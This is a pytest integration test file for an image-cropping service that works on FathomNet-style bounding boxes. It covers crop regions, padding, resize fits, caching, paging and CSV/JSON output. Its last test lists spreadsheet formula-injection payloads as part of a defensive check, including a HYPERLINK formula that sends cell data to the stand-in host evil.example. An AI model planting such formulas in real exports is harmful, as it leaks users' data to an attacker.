"""Crops as lab tools use them, over real nginx and Gunicorn: by annotation, with context, at a size.

Pixels are compared with what Pillow makes of the stand-in's own image: a crop by box UUID is the
pixel crop of its region, padding and squares stop at the image's edges, each fit has the exact
size asked, and a concept's boxes are paged through with one download per image.
"""

import csv
import io
from pathlib import Path

import pytest
import requests
from PIL import Image

from cropper import imaging
from devtools import servers
from devtools.standin import EDGE_BOXES, MULTIPAGE_CONCEPT, box, concept_boxes
from tests.images import assert_image_equal, open_bytes

UNKNOWN = "00000000-0000-4000-8000-000000000000"


def source_of(standin, uuid):
    """The stand-in image the uuid names, decoded as the service keeps it."""
    record = next(standin.image(name) for name in _names(standin) if standin.image(name).uuid == uuid)
    return imaging.normalise_mode(open_bytes(record.data))


def _names(standin):
    return [item["name"] for item in standin.catalog()]


def post(nginx, path, body, **kwargs):
    return requests.post(f"{nginx.url}{path}", json=body, timeout=60, **kwargs)


def fetched(url):
    answer = requests.get(url, timeout=30)
    assert answer.status_code == 200, url
    return open_bytes(answer.content)


def expected(source, region, size=None, canvas=None, background=(0, 0, 0)):
    image = source.crop(tuple(region))
    if size:
        image = image.resize(tuple(size), Image.Resampling.LANCZOS, reducing_gap=3.0)
    if canvas:
        out = Image.new(image.mode, tuple(canvas), background)
        out.paste(image, ((canvas[0] - image.width) // 2, (canvas[1] - image.height) // 2))
        image = out
    return image


def test_a_box_uuid_crop_is_the_pixel_crop_of_its_region_and_shares_its_file(nginx, standin):
    annotation = box(EDGE_BOXES["top"])
    by_box = post(nginx, "/cropper/", {"box_uuid": annotation["uuid"], "format": "png"})
    assert by_box.status_code == 200, by_box.text
    answer = by_box.json()
    region = [annotation["x"], annotation["y"], annotation["x"] + annotation["width"],
              annotation["y"] + annotation["height"]]
    assert answer["region"] == answer["box"] == region
    assert (answer["box_uuid"], answer["concept"], answer["review"], answer["uuid"]) == (
        annotation["uuid"], annotation["concept"], annotation["reviewState"], annotation["imageUuid"])
    by_pixels = post(nginx, "/cropper/", {"uuid": annotation["imageUuid"], "x1": region[0], "y1": region[1],
                                          "x2": region[2], "y2": region[3], "format": "png"}).json()
    assert by_pixels["url"] == answer["url"] and by_pixels["cached"] is True  # one file
    assert_image_equal(fetched(answer["url"]), expected(source_of(standin, answer["uuid"]), region))


def test_a_box_past_the_images_edges_is_clamped_to_it(nginx, standin):
    annotation = box(EDGE_BOXES["past-all"])
    answer = post(nginx, "/cropper/", {"box_uuid": annotation["uuid"], "format": "png"}).json()
    assert answer["box"] == [-30, -20, 1970, 1130] and answer["region"] == [0, 0, 1920, 1080]
    assert (answer["width"], answer["height"]) == (1920, 1080)


@pytest.mark.parametrize("label, options, region", [
    ("left", {"pad": 16}, [0, 284, 216, 466]),
    ("top", {"pad": "10%"}, [482, 0, 698, 132]),
    ("right", {"pad": 16, "square": True}, [1688, 604, 1920, 836]),   # 232 square, shifted left
    ("bottom", {"square": True}, [900, 840, 1140, 1080]),              # 240 square, shifted up
    ("top-left", {"pad": "50%", "square": True}, [0, 0, 320, 320]),
    ("bottom-right", {"pad": 40, "square": True}, [1680, 840, 1920, 1080]),
    ("full-frame", {"square": True, "pad": 10}, [0, 0, 1920, 1080]),
])
def test_padding_and_squares_stop_at_each_edge(nginx, standin, label, options, region):
    answer = post(nginx, "/cropper/", {"box_uuid": EDGE_BOXES[label], "format": "png", **options}).json()
    assert answer["region"] == region, answer
    assert (answer["width"], answer["height"]) == (region[2] - region[0], region[3] - region[1])
    assert_image_equal(fetched(answer["url"]), expected(source_of(standin, answer["uuid"]), region))


@pytest.mark.parametrize("options, size", [
    ({"width": 224}, (224, 112)),
    ({"height": 100}, (200, 100)),
    ({"width": 224, "height": 224}, (224, 112)),
    ({"width": 224, "height": 224, "fit": "cover"}, (224, 224)),
    ({"width": 224, "height": 224, "fit": "fill"}, (224, 224)),
    ({"width": 224, "height": 224, "fit": "letterbox", "background": "#336699"}, (224, 224)),
    ({"width": 1000, "height": 1000}, (1000, 500)),
    ({"width": 1000, "height": 1000, "enlarge": False}, (400, 200)),
])
def test_each_fit_gives_the_exact_size_and_pixels(nginx, standin, options, size):
    frame = standin.image("framegrab")
    body = {"uuid": frame.uuid, "x1": 200, "y1": 300, "x2": 600, "y2": 500, "format": "png", **options}
    answer = post(nginx, "/cropper/", body).json()
    image = fetched(answer["url"])
    assert image.size == size == (answer["width"], answer["height"])
    source = source_of(standin, frame.uuid)
    fit = options.get("fit")
    if fit == "letterbox":
        want = expected(source, answer["region"], (224, 112), (224, 224), (0x33, 0x66, 0x99))
    else:
        want = expected(source, answer["region"], None if size == (400, 200) else size)
    assert_image_equal(image, want)
    if fit == "cover":
        assert answer["region"] == [300, 300, 500, 500]  # the centred part with the aspect asked


def test_equivalent_requests_share_one_file(nginx, standin, gunicorn):
    frame = standin.image("framegrab-1")
    base = {"uuid": frame.uuid, "x1": 10, "y1": 20, "x2": 330, "y2": 260}
    variants = [{}, {"pad": 0}, {"pad": "0%"}, {"width": 320}, {"height": 240},
                {"width": 320, "height": 240, "fit": "fill"}, {"width": 320, "height": 240, "fit": "letterbox"},
                {"width": 900, "height": 900, "enlarge": False}, {"format": "jpg", "quality": 90}]
    urls = {post(nginx, "/cropper/", {**base, "format": "jpeg", **variant}).json()["url"]
            for variant in variants if "quality" not in variant}
    assert len(urls) == 1
    explicit = post(nginx, "/cropper/", {**base, "format": "jpg", "quality": 90}).json()["url"]
    assert explicit.endswith("_q90.jpeg") and explicit not in urls  # an explicit quality is its own file
    files = [p for p in Path(gunicorn.cache_dir, "crops").rglob("10_20_330_260*.jpeg")]
    assert len(files) == 2


def test_a_concept_pages_through_every_box_with_one_download_per_image(nginx, gunicorn, standin):
    expected_boxes = concept_boxes(MULTIPAGE_CONCEPT)
    images = {b["imageUuid"] for b in expected_boxes}
    for uuid in images:
        forget(gunicorn, uuid)
    standin.reset()
    seen, offset, pages = [], 0, 0
    while offset is not None:
        page = post(nginx, "/cropper-concept/", {"concept": MULTIPAGE_CONCEPT, "limit": 10, "offset": offset,
                                                 "width": 64, "height": 64, "fit": "cover"}).json()
        assert page["total"] == len(expected_boxes)
        assert all("url" in crop and crop["concept"] == MULTIPAGE_CONCEPT for crop in page["crops"]), page
        seen += [crop["box_uuid"] for crop in page["crops"]]
        offset, pages = page["next_offset"], pages + 1
    assert pages == 4 and seen == [b["uuid"] for b in expected_boxes]
    assert all(standin.downloads(uuid) == 1 for uuid in images)
    sample = page["crops"][-1]
    assert fetched(sample["url"]).size == (64, 64)


def forget(server, uuid):
    """Drop an image's crops and source from the shared test cache, so it is cold again."""
    servers.forget_image(server.cache_dir, uuid)


def test_csv_and_json_answers_agree(nginx):
    body = {"concept": MULTIPAGE_CONCEPT, "limit": 12, "offset": 5, "pad": "5%"}
    as_json = post(nginx, "/cropper-concept/", body).json()
    as_csv = post(nginx, "/cropper-concept", body, headers={"Accept": "text/csv"})
    assert as_csv.headers["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert list(rows[0]) == ["url", "label", "box_uuid", "image_uuid", "x1", "y1", "x2", "y2"]
    assert [(r["url"], r["label"], r["box_uuid"], r["image_uuid"], [int(r[k]) for k in ("x1", "y1", "x2", "y2")])
            for r in rows] == [(c["url"], c["concept"], c["box_uuid"], c["uuid"], c["region"])
                               for c in as_json["crops"]]


def test_an_evicted_sized_crop_is_made_again_with_the_same_bytes(nginx, gunicorn, standin):
    annotation = box(EDGE_BOXES["bottom"])
    answer = post(nginx, "/cropper/", {"box_uuid": annotation["uuid"], "pad": 8, "width": 100, "height": 100,
                                       "fit": "letterbox", "background": "ffffff", "format": "png"}).json()
    first = requests.get(answer["url"], timeout=30)
    path = Path(gunicorn.cache_dir, "crops", answer["url"].split("/crops/", 1)[1])
    path.unlink()
    forget(gunicorn, annotation["imageUuid"])  # its source too: the URL alone must be enough
    # From the app itself: nginx may still hold the deleted file open for a while (open_file_cache).
    again = requests.get(answer["url"].replace(nginx.url, gunicorn.url), timeout=30)
    assert again.status_code == 200 and again.headers["X-Cropper-Cache"] == "regenerated"
    assert again.content == first.content


@pytest.mark.parametrize("path, body, status, code", [
    ("/cropper/", {"box_uuid": UNKNOWN}, 404, "box_not_found"),
    ("/cropper-concept/", {"concept": "Nonexistentia imaginaria"}, 404, "concept_not_found"),
])
def test_unknown_boxes_and_concepts_are_clear_404s(nginx, path, body, status, code):
    answer = post(nginx, path, body)
    assert (answer.status_code, answer.json()["error"]["code"]) == (status, code)
    assert body.get("box_uuid", body.get("concept")) in answer.json()["error"]["message"]


@pytest.mark.parametrize("options, field", [
    ({"pad": "abc"}, "pad"), ({"pad": "2000%"}, "pad"), ({"pad": -3}, "pad"),
    ({"fit": "stretch", "width": 5, "height": 5}, "fit"), ({"fit": "cover", "width": 5}, "fit"),
    ({"background": "#fff", "fit": "letterbox", "width": 5, "height": 5}, "background"),
    ({"background": "#ffffff"}, "background"), ({"quality": 0}, "quality"), ({"quality": 101}, "quality"),
    ({"width": 0}, "width"), ({"height": 99999}, "height"), ({"square": "maybe"}, "square"),
    ({"enlarge": []}, "enlarge"), ({"x1": 1}, "box_uuid"),
])
def test_invalid_options_are_422s_naming_the_field(nginx, options, field):
    answer = post(nginx, "/cropper/", {"box_uuid": EDGE_BOXES["left"], **options})
    assert answer.status_code == 422, answer.text
    assert field in answer.json()["error"]["details"], answer.json()


def test_an_images_boxes_are_listed_with_their_crop_requests_and_urls(nginx, standin):
    frame = standin.image("framegrab-7")
    listing = requests.get(f"{nginx.url}/images/{frame.uuid}/boxes", timeout=30).json()
    assert (listing["uuid"], listing["width"], listing["height"]) == (frame.uuid, 1920, 1080)
    listed = {b["box_uuid"]: b for b in listing["boxes"]}
    assert set(listed) == {b["uuid"] for b in standin.image_json("framegrab-7")["boundingBoxes"]}
    past = listed[EDGE_BOXES["past-left"]]
    assert past["box"] == [-40, 500, 160, 600] and past["region"] == [0, 500, 160, 600]
    assert past["request"] == {"box_uuid": EDGE_BOXES["past-left"]}
    assert fetched(past["url"]).size == (160, 100)  # the URL works before anyone asked for the crop
    missing = requests.get(f"{nginx.url}/images/{UNKNOWN}/boxes", timeout=30)
    assert (missing.status_code, missing.json()["error"]["code"]) == (404, "image_not_found")


def test_a_box_url_redirects_to_its_canonical_crop(nginx, standin):
    annotation = box(EDGE_BOXES["right"])
    answer = requests.get(f"{nginx.url}/boxes/{annotation['uuid']}.webp?width=96&height=96&fit=cover",
                          timeout=30, allow_redirects=False)
    assert answer.status_code == 302
    same = post(nginx, "/cropper/", {"box_uuid": annotation["uuid"], "width": 96, "height": 96, "fit": "cover"})
    assert answer.headers["Location"] == same.json()["url"]
    assert fetched(answer.headers["Location"]).size == (96, 96)
    unknown = requests.get(f"{nginx.url}/boxes/{UNKNOWN}.png", timeout=30)
    assert (unknown.status_code, unknown.json()["error"]["code"]) == (404, "box_not_found")


# Concepts a hostile FathomNet could name: each would run as a formula in a spreadsheet, or (the last) start
# a row of its own at its carriage return.
FORMULA_CONCEPTS = ['=HYPERLINK("http://evil.example/?leak="&A2,"Open crop")', "+1+1", "-2+3", "@SUM(A1:A2)",
                    "\t=1+1", "\r=1+1", "Aegina\r=HYPERLINK(1)"]


def test_a_concept_csv_hands_a_spreadsheet_no_formula(nginx, standin):
    for concept in FORMULA_CONCEPTS:
        standin.add_box("framegrab-1", concept, 10, 12, 40, 30)
    for concept in FORMULA_CONCEPTS:
        as_csv = post(nginx, "/cropper-concept/", {"concept": concept}, headers={"Accept": "text/csv"})
        assert as_csv.status_code == 200, as_csv.text
        rows = list(csv.reader(io.StringIO(as_csv.text, newline="")))
        assert len(rows) == 2, rows  # the header and the one crop: no row started inside a cell
        url, label, box_uuid, image_uuid, *region = rows[1]
        assert label == (concept if concept.startswith("A") else "'" + concept)
        assert region == ["10", "12", "50", "42"]  # numbers are written as numbers
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
